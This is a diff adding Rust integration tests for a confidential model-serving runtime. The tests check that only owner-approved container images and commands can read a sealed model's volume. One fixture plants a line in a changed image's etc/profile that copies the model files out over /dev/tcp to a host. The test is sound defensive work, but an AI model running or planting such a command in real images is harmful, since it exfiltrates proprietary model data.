@@ -6,8 +6,12 @@
 
 use std::time::Duration;
 
+use veil_integration::oci::ExtraFile;
 use veil_integration::owner::{with_annotation, ModelOwner, KEY_RESOURCE};
-use veil_integration::{Containerd, GROUP_ANNOTATION, MODEL_SERVER_IMAGE, VEIL_RUNTIME};
+use veil_integration::{
+    Containerd, Options, GROUP_ANNOTATION, MODEL_SERVER_ARGS, MODEL_SERVER_IMAGE,
+    READERS_ANNOTATION, VEIL_RUNTIME,
+};
 use veil_model_server::Model;
 
 const INPUT: &str = "5.1,3.5,1.4,0.2";
@@ -128,6 +132,138 @@ fn a_sealed_model_is_delivered_into_guest_ram_and_served_and_the_host_sees_none_
         after.is_empty(),
         "secrets on the host after the run: {after:?}"
     );
+    assert!(
+        containerd.qemu_processes().is_empty(),
+        "a VM outlived its pod"
+    );
+}
+
+/// The serving image with one file more, as a node that changed the approved image would
+/// run it.
+const CHANGED_IMAGE: &str = "veil.test/model-server:changed";
+
+#[test]
+fn only_the_containers_the_owner_approved_may_read_the_model() {
+    only_approved_readers_over(None);
+}
+
+/// The digest the guest takes over 9p is the one the owner took of the image too (modes
+/// as the node's files have them: `security_model=none`).
+#[test]
+fn approved_readers_are_verified_over_9p_too() {
+    only_approved_readers_over(Some("virtio-9p"));
+}
+
+/// Serves a model whose owner approves one reader, the serving image with its command,
+/// sharing the containers' files by `shared_fs` (the default where `None`); another
+/// command, or the command from a changed image, may not mount the model's volume.
+fn only_approved_readers_over(shared_fs: Option<&str>) {
+    let owner = ModelOwner::start(31, 0).expect("model owner");
+    let containerd = Containerd::start_with(&Options {
+        shared_fs: shared_fs.map(str::to_string),
+        ..Options::default()
+    })
+    .expect("start containerd");
+    containerd
+        .import_model_server()
+        .expect("import the serving image");
+    let changed_file = ExtraFile {
+        path: "etc/profile".into(),
+        mode: 0o644,
+        data: b"cat /model/* > /dev/tcp/node/80\n".to_vec(),
+    };
+    containerd
+        .import_model_server_as(CHANGED_IMAGE, vec![changed_file])
+        .expect("import the changed image");
+    // The owner's approval: the serving image's rootfs digest with its command.
+    let approved = containerd
+        .image_rootfs_digest(MODEL_SERVER_IMAGE)
+        .expect("digest the serving image");
+    let changed = containerd
+        .image_rootfs_digest(CHANGED_IMAGE)
+        .expect("digest the changed image");
+    assert_ne!(approved, changed);
+    let readers = serde_json::json!([{"rootfs": approved, "args": MODEL_SERVER_ARGS}]);
+    let annotations = with_annotation(
+        &owner.annotations("model"),
+        READERS_ANNOTATION,
+        &readers.to_string(),
+    );
+    let id = "approved";
+
+    let started = containerd
+        .run_model_server(id, &annotations)
+        .expect("ctr run");
+    assert_eq!(
+        started.code,
+        0,
+        "the approved server did not start: {}\nconsole: {}",
+        started.stderr,
+        containerd.console_log(id)
+    );
+    let answer = containerd.query_model_server(id, INPUT).expect("query");
+    assert_eq!(
+        answer.code,
+        0,
+        "query failed: {} {}\nconsole: {}",
+        answer.stdout,
+        answer.stderr,
+        containerd.console_log(id)
+    );
+    // It runs from the copy the agent verified, not from the node's share.
+    let console = containerd.console_log(id);
+    let verified = console
+        .lines()
+        .find(|line| line.contains("rootfs verified as one the model owner approved"))
+        .unwrap_or_else(|| panic!("the server's rootfs was not verified:\n{console}"));
+    assert!(
+        verified.contains(&approved) && verified.contains("/run/veil/verified/approved"),
+        "{verified}"
+    );
+    eprintln!("{verified}");
+
+    // The approved image with another command may not mount the model's volume.
+    let other_command = containerd
+        .run_reader_in_pod(
+            id,
+            "cat",
+            MODEL_SERVER_IMAGE,
+            &annotations,
+            &["cat", "/model/model.safetensors"],
+        )
+        .expect("ctr run");
+    assert_ne!(other_command.code, 0, "another command read the model");
+    assert!(other_command.stdout.is_empty(), "{}", other_command.stdout);
+    assert!(
+        other_command
+            .stderr
+            .contains("is not one the model owner approved for volume model"),
+        "{}",
+        other_command.stderr
+    );
+    // Nor may the approved command run from a changed image.
+    let changed_image = containerd
+        .run_reader_in_pod(
+            id,
+            "changed",
+            CHANGED_IMAGE,
+            &annotations,
+            &MODEL_SERVER_ARGS,
+        )
+        .expect("ctr run");
+    assert_ne!(changed_image.code, 0, "a changed image read the model");
+    assert!(
+        changed_image.stderr.contains(&changed) && changed_image.stderr.contains("did not approve"),
+        "{}",
+        changed_image.stderr
+    );
+
+    // The server still serves, and nothing secret reached the host.
+    let again = containerd.query_model_server(id, INPUT).expect("query");
+    assert_eq!(again.code, 0, "{}", again.stderr);
+    let leaked = owner.secrets_on_host(&containerd);
+    assert!(leaked.is_empty(), "secrets on the host: {leaked:?}");
+    containerd.remove(id);
     assert!(
         containerd.qemu_processes().is_empty(),
         "a VM outlived its pod"
